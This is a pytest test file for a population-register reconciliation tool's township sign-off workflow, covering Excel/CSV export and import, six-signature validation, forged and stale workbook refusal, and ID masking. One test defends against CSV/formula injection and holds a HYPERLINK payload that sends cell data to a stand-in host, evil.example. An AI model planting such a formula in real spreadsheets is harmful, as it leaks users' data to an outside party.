"""The six sign-offs as a township does them: export, fill in, import, apply."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from conftest import (
    CHILD_3,
    Recon,
    four_case_inbox,
    id_with_check,
    write_csv,
)
from openpyxl.worksheet.worksheet import Worksheet

from recon import signoff
from recon.cases.worklist import DEFAULT_ROLES
from recon.signoff import SignoffError

AS_OF = date(2024, 12, 31)
TODAY = date(2025, 1, 31)
NAMES = ("王计生", "李村干", "张包保", "赵统计", "钱分管", "孙书记")


@pytest.fixture
def store(recon: Recon, tmp_path: Path) -> Recon:
    """Four cases: P0001 sex wrong, P0007 fictitious, P0009 duplicate, H0002 missing in pop."""
    inbox = four_case_inbox(tmp_path / "in")
    assert recon.run(inbox, as_of=AS_OF).exit_code == 0
    return recon


@pytest.fixture
def con(store: Recon) -> Iterator[duckdb.DuckDBPyConnection]:
    connection = duckdb.connect(str(store.db))
    try:
        yield connection
    finally:
        connection.close()


def in_tx(con: duckdb.DuckDBPyConnection, work: Any, *args: Any, **kwargs: Any) -> Any:
    """What the CLI does: one transaction around each call, rolled back on error."""
    con.begin()
    try:
        result = work(con, *args, **kwargs)
    except BaseException:
        con.rollback()
        raise
    con.commit()
    return result


def dump(con: duckdb.DuckDBPyConnection) -> dict[str, list[tuple[Any, ...]]]:
    """Every table's rows, to compare the store before and after.

    The audit log is left out: each import or apply is itself an entry (see audit_actions).
    """
    tables = [r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()]
    return {
        t: sorted(con.execute(f'SELECT * FROM "{t}"').fetchall(), key=repr)
        for t in tables
        if t != "audit_log"
    }


def audit_actions(con: duckdb.DuckDBPyConnection) -> list[str]:
    return [r[0] for r in con.execute("SELECT action FROM audit_log ORDER BY seq").fetchall()]


def case_of(con: duckdb.DuckDBPyConnection, category: str) -> str:
    row = con.execute("SELECT case_id FROM cases WHERE category = ?", [category]).fetchall()[0]
    return str(row[0])


def export(con: duckdb.DuckDBPyConnection, path: Path, **kwargs: Any) -> signoff.ExportResult:
    kwargs.setdefault("fmt", path.suffix[1:])
    result = in_tx(con, signoff.export_worklist, path, roles=DEFAULT_ROLES, division=None, **kwargs)
    assert isinstance(result, signoff.ExportResult)
    return result


def import_(con: duckdb.DuckDBPyConnection, path: Path) -> signoff.ImportResult:
    result = in_tx(con, signoff.import_worklist, path, roles=DEFAULT_ROLES, today=TODAY)
    assert isinstance(result, signoff.ImportResult)
    return result


class Sheet:
    """The exported workbook, filled in cell by cell as a township would."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.book = openpyxl.load_workbook(path)
        sheet = self.book["工作清单"]
        assert isinstance(sheet, Worksheet)
        self.sheet = sheet
        self.columns = {str(c.value): c.column for c in sheet[1]}
        self.rows = {str(sheet.cell(row=r, column=1).value): r for r in range(2, sheet.max_row + 1)}

    def cell(self, case_id: str, header: str) -> Any:
        return self.sheet.cell(row=self.rows[case_id], column=self.columns[header])

    def sign(
        self,
        case_id: str,
        n: int,
        decision: str = "同意",
        when: Any = None,
        reason: str | None = None,
        name: str | None = None,
    ) -> None:
        self.cell(case_id, f"签字人{n}姓名").value = name or NAMES[n - 1]
        self.cell(case_id, f"签字人{n}日期").value = when or date(2025, 1, n)
        self.cell(case_id, f"签字人{n}意见").value = decision
        self.cell(case_id, f"签字人{n}理由").value = reason

    def sign_all(self, case_id: str, upto: int = 6) -> None:
        for n in range(1, upto + 1):
            self.sign(case_id, n)

    def save(self, path: Path | None = None) -> Path:
        target = path or self.path
        self.book.save(target)
        return target


def test_round_trip_as_a_township(
    store: Recon, con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    sex, fake, dup, missing = (
        case_of(con, c) for c in ("misreported", "fictitious", "duplicate", "missing")
    )
    exported = export(con, tmp_path / "worklist.xlsx")
    assert exported.cases == 4

    filled = Sheet(exported.path)
    filled.sign_all(sex)
    filled.sign_all(dup)
    filled.sign_all(fake, upto=2)
    filled.sign(fake, 3, "不同意", reason="入户核实确有此孩，系外地分娩")
    filled.sign_all(missing, upto=3)  # half-signed: kept, still to finish
    result = import_(con, filled.save())
    assert result.problems == []
    assert (result.rows, result.signatures_added, result.cases_updated) == (4, 6 + 6 + 3 + 3, 4)
    status = dict(con.execute("SELECT case_id, status FROM cases").fetchall())
    assert status == {sex: "approved", dup: "approved", fake: "rejected", missing: "signing"}

    applied = in_tx(con, signoff.apply, tmp_path / "out")
    assert (applied.cases_applied, applied.corrections_added, applied.refused) == (2, 2, ())
    register = {
        r[0]: r[1:]
        for r in con.execute(
            "SELECT record_id, sex, case_id FROM corrected_pop ORDER BY record_id"
        ).fetchall()
    }
    assert register == {"P0001": ("M", sex), "P0007": ("M", None)}  # P0009 removed, P0007 kept
    pop_now = con.execute("SELECT record_id, sex FROM pop ORDER BY record_id").fetchall()
    assert pop_now == [("P0001", "F"), ("P0007", "M"), ("P0009", "M")]  # sources untouched
    with applied.path.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["record_id"], r["sex"], r["case_id"]) for r in rows] == [
        ("P0001", "M", sex),
        ("P0007", "M", ""),
    ]
    assert applied.path.read_bytes().startswith(b"\xef\xbb\xbf")
    ledger = con.execute(
        "SELECT case_id, action, record_id, field, old_value, new_value, "
        "json_array_length(signatures), signatures->>'$[5].role' FROM corrections ORDER BY action"
    ).fetchall()
    assert ledger == [
        (dup, "remove", "P0009", None, "出生登记", "duplicate_of:P0001", 6, "单位一把手"),
        (sex, "update", "P0001", "sex", "F", "M", 6, "单位一把手"),
    ]
    assert dict(con.execute("SELECT case_id, status FROM cases").fetchall())[sex] == "applied"

    # Applying again changes nothing.
    before = dump(con)
    again = in_tx(con, signoff.apply, tmp_path / "out")
    assert (again.cases_applied, again.corrections_added) == (0, 0)
    assert dump(con) == before
    assert audit_actions(con)[-1] == "apply"

    # The next worklist carries the half-signed case with its signatures; finishing it
    # records the missing birth as an addition (the register cannot invent the row).
    second = export(con, tmp_path / "second.xlsx")
    assert second.cases == 1
    sheet = Sheet(second.path)
    assert sheet.cell(missing, "签字人3姓名").value == NAMES[2]
    for n in (4, 5, 6):
        sheet.sign(missing, n)
    result = import_(con, sheet.save())
    assert (result.signatures_added, result.problems) == (3, [])
    applied = in_tx(con, signoff.apply, tmp_path / "out")
    assert applied.cases_applied == 1
    added = con.execute(
        "SELECT action, new_value, evidence FROM corrections WHERE case_id = ?", [missing]
    ).fetchall()[0]
    assert added is not None and added[0] == "add"
    assert added[1].startswith("姓名：钱多；性别：女；出生日期：2024-05-10；")
    assert "住院分娩" in added[2]
    # The register: P0001 corrected, P0009 (duplicate) removed, the missing birth added.
    assert con.execute("SELECT count(*) FROM corrected_pop").fetchall()[0] == (3,)
    assert signoff.status_violations(con) == []


def test_importing_twice_changes_nothing(
    store: Recon, con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    exported = export(con, tmp_path / "w.xlsx")
    sheet = Sheet(exported.path)
    sheet.sign_all(case_of(con, "misreported"))
    sheet.sign_all(case_of(con, "missing"), upto=2)
    path = sheet.save()
    first = import_(con, path)
    assert first.signatures_added == 8
    before = dump(con)
    second = import_(con, path)
    assert (second.signatures_added, second.cases_updated, second.problems) == (0, 0, [])
    assert dump(con) == before
    assert audit_actions(con)[-1] == "import"  # the attempt is recorded, nothing else

    # A differing resubmission of a signed position is a problem, never an overwrite.
    sheet.sign(case_of(con, "misreported"), 2, name="冒名顶替")
    third = import_(con, sheet.save())
    assert third.signatures_added == 0
    assert [p.problem for p in third.problems] == [
        "第2签字（村组干部）：已于此前导入且内容不同，未覆盖"
    ]
    assert dump(con) == before


def test_per_row_problems_are_reported_and_the_valid_prefix_kept(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    sex, fake, dup, missing = (
        case_of(con, c) for c in ("misreported", "fictitious", "duplicate", "missing")
    )
    sheet = Sheet(export(con, tmp_path / "w.xlsx").path)
    # Wrong role order: the 2nd and 3rd roles swapped.
    sheet.sign_all(sex, upto=3)
    sheet.cell(sex, "签字人2角色").value = "包保国家干部"
    sheet.cell(sex, "签字人3角色").value = "村组干部"
    # 不同意 with no reason.
    sheet.sign(fake, 1, "不同意")
    # A date in the future, then a gap (5th signed with the 4th empty).
    sheet.sign_all(dup, upto=2)
    sheet.sign(dup, 3, when=date(2025, 3, 1))
    sheet.sign(dup, 5)
    # A date before the previous signature's, written as text the way people type it.
    sheet.sign(missing, 1, when="2025年1月9日")
    sheet.sign(missing, 2, when="2025/1/8")
    result = import_(con, sheet.save())

    found = {(p.case_id, p.problem) for p in result.problems}
    assert (sex, "第2签字（村组干部）：角色应为“村组干部”，实为“包保国家干部”") in found
    assert (sex, "第3签字（包保国家干部）：角色应为“包保国家干部”，实为“村组干部”") in found
    assert (fake, "第1签字（计生专干）：不同意须填写理由") in found
    assert (dup, "第3签字（包保国家干部）：日期 2025-03-01 晚于今天 2025-01-31") in found
    assert (dup, "第5签字（分管领导）：第4签字未签，须按顺序签字") in found
    assert (missing, "第2签字（村组干部）：日期 2025-01-08 早于上一签字的日期 2025-01-09") in found
    rows = {p.row for p in result.problems}
    assert rows <= set(range(2, 6))

    kept = con.execute(
        "SELECT case_id, list(position ORDER BY position) FROM signatures GROUP BY case_id"
    ).fetchall()
    assert dict(kept) == {sex: [1], dup: [1, 2], missing: [1]}
    status = dict(con.execute("SELECT case_id, status FROM cases").fetchall())
    assert status == {sex: "signing", dup: "signing", missing: "signing", fake: "open"}


def test_formula_payloads_are_inert(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    sex = case_of(con, "misreported")
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    con.execute("UPDATE cases SET evidence = ? WHERE case_id = ?", [payload, sex])
    sheet = Sheet(export(con, tmp_path / "w.xlsx").path)
    cell = sheet.cell(sex, "证据")
    assert cell.data_type == "s" and cell.value == "'" + payload

    sheet.sign(sex, 1, name="@SUM(A1:A9)")
    sheet.sign(sex, 2, name="+1", reason=None)
    import_(con, sheet.save())
    names = con.execute(
        "SELECT name FROM signatures WHERE case_id = ? ORDER BY position", [sex]
    ).fetchall()
    assert names == [("@SUM(A1:A9)",), ("+1",)]

    again = Sheet(export(con, tmp_path / "again.xlsx").path)
    for header, text in (("签字人1姓名", "'@SUM(A1:A9)"), ("签字人2姓名", "'+1")):
        cell = again.cell(sex, header)
        assert cell.data_type == "s" and cell.value == text
    evidence = again.cell(sex, "证据")
    assert evidence.data_type == "s" and str(evidence.value).startswith("'=")

    exported = export(con, tmp_path / "w.csv")
    with exported.path.open(encoding="utf-8-sig") as handle:
        row = next(r for r in csv.DictReader(handle) if r["case_id"] == sex)
    assert row["evidence"] == "'" + payload and row["sig1_name"] == "'@SUM(A1:A9)"
    # Re-importing the sheet the export wrote (apostrophes and all) is not a change.
    assert import_(con, again.save()).problems == []


def test_a_forged_workbook_is_refused(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    sheet = Sheet(export(con, tmp_path / "w.xlsx").path)
    sheet.sign_all(case_of(con, "misreported"))
    sheet.book["_recon"]["B1"] = "E20250101000000FORGED"
    for prop in sheet.book.custom_doc_props.props:
        if prop.name == "recon_export_id":
            prop.value = "E20250101000000FORGED"
    with pytest.raises(SignoffError, match="not exported by this tool"):
        import_(con, sheet.save(tmp_path / "forged.xlsx"))

    bare = openpyxl.Workbook()  # a hand-made sheet with the right headers but no export id
    first = bare.active
    assert isinstance(first, Worksheet)
    first.append([c.value for c in sheet.sheet[1]])
    bare.save(tmp_path / "bare.xlsx")
    with pytest.raises(SignoffError, match="not exported by this tool"):
        import_(con, tmp_path / "bare.xlsx")
    assert con.execute("SELECT count(*) FROM signatures").fetchall()[0] == (0,)


def test_a_stale_workbook_is_refused(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    sex, fake = case_of(con, "misreported"), case_of(con, "fictitious")
    sheet = Sheet(export(con, tmp_path / "w.xlsx").path)
    sheet.sign_all(sex)
    path = sheet.save()

    con.execute("UPDATE cases SET current_value = 'X' WHERE case_id = ?", [sex])
    with pytest.raises(SignoffError, match=r"stale.*fingerprint"):
        import_(con, path)
    con.execute("UPDATE cases SET current_value = 'F' WHERE case_id = ?", [sex])

    con.execute("UPDATE cases SET closed_run = 2 WHERE case_id = ?", [fake])
    with pytest.raises(SignoffError, match=rf"stale.*closed.*{fake}"):
        import_(con, path)
    assert con.execute("SELECT count(*) FROM signatures").fetchall()[0] == (0,)


def test_ids_are_masked_unless_full_id(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    child = id_with_check("42060720240305001")
    masked = export(con, tmp_path / "masked.xlsx")
    values = [str(c.value) for row in Sheet(masked.path).sheet.iter_rows() for c in row]
    assert child not in values and CHILD_3 not in values
    assert child[:6] + "********" + child[-4:] in values

    full = export(con, tmp_path / "full.xlsx", full_id=True)
    values = [str(c.value) for row in Sheet(full.path).sheet.iter_rows() for c in row]
    assert child in values and CHILD_3 in values

    text = export(con, tmp_path / "masked.csv").path.read_text(encoding="utf-8-sig")
    assert child not in text and CHILD_3 not in text


def test_csv_round_trip_with_typed_dates(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    sex = case_of(con, "misreported")
    exported = export(con, tmp_path / "w.csv")
    with exported.path.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert all(r["export_id"] == exported.export_id for r in rows)
    forms = ("2025-01-02", "2025/1/3", "2025年1月4日", "2025-01-05", "2025/01/06", "2025.1.7")
    for row in rows:
        if row["case_id"] == sex:
            for n, when in enumerate(forms, start=1):
                row.update(
                    {f"sig{n}_name": NAMES[n - 1], f"sig{n}_date": when, f"sig{n}_decision": "同意"}
                )
    write_csv(exported.path, rows)
    result = import_(con, exported.path)
    assert (result.signatures_added, result.problems) == (6, [])
    assert con.execute("SELECT status FROM cases WHERE case_id = ?", [sex]).fetchall()[0] == (
        "approved",
    )


def test_a_division_export_holds_only_its_cases(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    town = in_tx(
        con, signoff.export_worklist, tmp_path / "t.csv", roles=DEFAULT_ROLES,
        division="420607102000", fmt="csv",
    )  # fmt: skip
    assert town.cases == 1  # only the duplicate was moved to 刘集镇
    with pytest.raises(SignoffError, match="6, 9 or 12 digit"):
        in_tx(con, signoff.export_worklist, tmp_path / "x.csv", division="4206071", fmt="csv")


def test_the_store_enforces_the_status_machine(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    sex = case_of(con, "misreported")
    with pytest.raises(duckdb.ConstraintException):
        con.execute("INSERT INTO case_status_log VALUES (?, 'open', 'applied', now(), 'x')", [sex])
    with pytest.raises(SignoffError, match="cannot become applied"):
        in_tx(con, signoff.transition, sex, "applied", "test")
    with pytest.raises(duckdb.ConstraintException):
        con.execute(
            "INSERT INTO signatures VALUES (?, 1, '计生专干', '王', DATE '2025-01-01', "
            "'不同意', NULL, 'E', now())",
            [sex],
        )

    # A case set to approved behind the tool's back, without six 同意, is not applied.
    con.execute("UPDATE cases SET status = 'approved' WHERE case_id = ?", [sex])
    result = in_tx(con, signoff.apply, tmp_path / "out")
    assert (result.cases_applied, result.refused) == (0, (sex,))
    assert con.execute("SELECT count(*) FROM corrections").fetchall()[0] == (0,)
    assert signoff.status_violations(con) == [f"{sex}: approved (log: open)"]
